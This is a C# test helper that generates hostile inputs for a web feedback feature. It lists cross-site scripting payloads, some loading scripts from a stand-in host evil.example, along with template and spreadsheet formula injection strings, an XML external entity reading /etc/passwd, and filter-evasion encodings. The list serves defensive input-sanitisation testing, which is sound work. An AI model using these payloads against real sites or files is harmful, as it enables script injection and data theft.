namespace Kept.Web.Tests.Feedback;

/// <summary>Words that would do something where they are not shown as words.</summary>
internal static class HostileWords
{
    private static readonly string[] Does = ["alert(1)", "fetch('//evil.example')", "location='//evil.example'"];

    private static readonly string[] Forms =
    [
        "<script>{0}</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script/x>{0}</script>", "<<script>{0}//<</script>", "<img src=x onerror={0}>", "<img src=x onerror=\"{0}\"//", "<svg onload={0}>",
        "<svg><script>{0}</script></svg>", "<svg><animate onbegin={0} attributeName=x dur=1s>", "<math><mtext><style><img src onerror={0}></style></mtext></math>", "<iframe src=javascript:{0}></iframe>",
        "<iframe srcdoc=\"<script>{0}</script>\"></iframe>", "<object data=javascript:{0}></object>", "<embed src=javascript:{0}>", "<a href=javascript:{0}>here</a>", "<a href=\"jav&#x09;ascript:{0}\">here</a>",
        "<form action=javascript:{0}><input type=submit></form>", "<button formaction=javascript:{0}>here</button>", "<body onload={0}>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">", "<style>@import '//evil.example/x.css'</style>", "<marquee onstart={0}>", "<video><source onerror={0}></video>", "<audio src onerror={0}>",
        "<details open ontoggle={0}>", "<template><script>{0}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={0}>\">", "<textarea></textarea><script>{0}</script>", "</textarea><script>{0}</script>",
        "</title><script>{0}</script>", "</script><script>{0}</script>", "</style><script>{0}</script>", "<!--<img src=\"--><img src=x onerror={0}>\">", "--><script>{0}</script>", "]]><script>{0}</script>", "<![CDATA[<script>{0}</script>]]>",
        "\"><script>{0}</script>", "'><script>{0}</script>", "\" onmouseover=\"{0}", "' onmouseover='{0}", "\" autofocus onfocus={0} x=\"", "` onmouseover=`{0}", "\" style=\"background:url(javascript:{0})", "javascript:{0}", "data:text/html,<script>{0}</script>",
        "vbscript:{0}", "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;", "%3Cscript%3E{0}%3C/script%3E", "\\u003cscript\\u003e{0}\\u003c/script\\u003e", "\\x3cscript\\x3e{0}", "+ADw-script+AD4-{0}+ADw-/script+AD4-",
        "{{constructor.constructor('{0}')()}}", "${{0}}", "#{{0}}", "<%= {0} %>", "@({0})", "@Html.Raw(\"<script>{0}</script>\")", "[[${{0}}]]", "{% {0} %}", "*{{0}}", "=cmd|'{0}'!A1", "=HYPERLINK(\"http://evil.example\",\"{0}\")", "+1+{0}", "-1+{0}",
        "@SUM(1)+{0}", "\u202Eh<script>{0}</script>", "\u2066<b>{0}</b>\u2069", "\u061C<i>{0}</i>", "＜script＞{0}＜/script＞", "<scr\u0002ipt>{0}</scr\u0002ipt>", "\u000C<img src=x onerror={0}>", "\u0001\u0008\u001B[31m{0}", "\u2028<script>{0}</script>\u2029", "Á́́́́́ <b>{0}", "👩‍👩‍👧 <u>{0}</u>",
        "<x-new-tag onclick={0}>words", "<p style=position:fixed>{0}</p>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;{0}</x>", "<?xml-stylesheet href=\"javascript:{0}\"?>",
    ];

    // What gets past a filter that looks for one way of writing.
    private static readonly Func<string, string>[] Disguises =
    [
        w => w, w => w.ToUpperInvariant(), w => w.Replace("<", "< ", StringComparison.Ordinal), w => w.Replace(' ', '/'), w => w.Replace(' ', '\t'), w => "x" + w + "x", w => w + " " + w, w => w.Replace("=", " = ", StringComparison.Ordinal),
        w => w.Replace("script", "scr<script>ipt", StringComparison.Ordinal), w => w.Replace("<", "&lt;<", StringComparison.Ordinal), w => w.Replace(">", "", StringComparison.Ordinal),
        w => w.Replace("a", "&#97;", StringComparison.Ordinal), w => w.Replace("\"", "&quot;", StringComparison.Ordinal), w => w.Replace("<", "\\u003c", StringComparison.Ordinal),
    ];

    /// <summary>How many there are at least: by night each of them in every disguise.</summary>
    internal static int Least => IsNight ? 2_000 : 200;

    private static bool IsNight => Environment.GetEnvironmentVariable("KEPT_TEST_NIGHT") == "1";

    /// <summary>As they are typed.</summary>
    internal static IReadOnlyList<string> All { get; } =
        [.. (IsNight ? Disguises : Disguises[..1]).SelectMany(_ => Forms, (disguise, form) => (disguise, form)).SelectMany(f => Does.Select(does => f.disguise(f.form.Replace("{0}", does, StringComparison.Ordinal)))).Distinct(StringComparer.Ordinal).Select((words, n) => FormattableString.Invariant($"{words} (no {n})"))];

    /// <summary>As they are kept: what nobody can see is left out.</summary>
    internal static string Kept(string words) => string.Concat(words.Select(c => c is '\f' or '\v' or '\u0085' ? ' ' : c).Where(c => !char.IsControl(c) || c is '\r' or '\n' or '\t')).ReplaceLineEndings("\n").Trim();
}
